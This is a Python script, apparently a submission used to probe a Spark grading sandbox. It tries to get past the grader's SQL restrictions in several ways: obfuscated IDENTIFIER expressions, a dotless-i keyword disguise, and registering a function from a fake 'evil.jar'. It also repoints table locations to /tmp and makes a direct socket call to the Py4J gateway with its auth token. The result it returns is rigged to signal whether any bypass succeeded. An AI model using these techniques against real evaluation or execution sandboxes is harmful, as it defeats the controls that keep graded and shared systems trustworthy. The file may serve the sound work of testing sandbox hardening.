# outcome: failed
# says: twice|4
import os
import socket
import zipfile

jar = os.path.abspath("evil.jar")
with zipfile.ZipFile(jar, "w") as file:
    file.writestr("Evil.class", b"\xca\xfe\xba\xbe")
# A name that is an expression hides the statement around it; and Spark takes a dotless i for an I.
DOORS = (
    f"CREATE TEMPORARY FUNCTION IDENTIFIER('ev' || 'il') AS 'Evil' USING JAR '{jar}'",
    f"create temporary funct\u0131on identifier('ev' || 'il') as 'Evil' using jar '{jar}'",
    "CREATE FUNCTION IDENTIFIER(lower('EVIL')) AS 'org.apache.hadoop.hive.ql.udf.UDFUUID'",
    "ALTER TABLE IDENTIFIER('de' || 'fault.t') SET LOCATION '/tmp'",
    "ALTER DATABASE IDENTIFIER('de' || 'fault') SET LOCATION '/tmp'",
)
opened = []
for door in DOORS:
    try:
        spark.sql(door).collect()
        opened.append(door)
    except Exception as error:
        if "is not available to a graded submission" not in str(error):
            opened.append(str(error))
# Py4J drops the backslash. By then a setting may have another text than when it was looked at.
spark.conf.set("labkit.way", "SELECT 1")
told = spark.sparkContext._gateway.gateway_parameters
with socket.create_connection(("127.0.0.1", told.port), timeout=60) as line:
    session = spark._jsparkSession._target_id
    line.sendall(f"A\n{told.auth_token}\nc\n{session}\nsql\ns$\\{{labkit.way}}\ne\n".encode())
    answers = line.makefile("rb")
    assert answers.readline() == b"!yv\n"
    if not answers.readline().startswith(b"!xs${...} in SQL is not available"):
        opened.append("a setting in SQL")


def double(numbers):
    return numbers.selectExpr("n", f"n * {2 if opened else 4} AS twice")
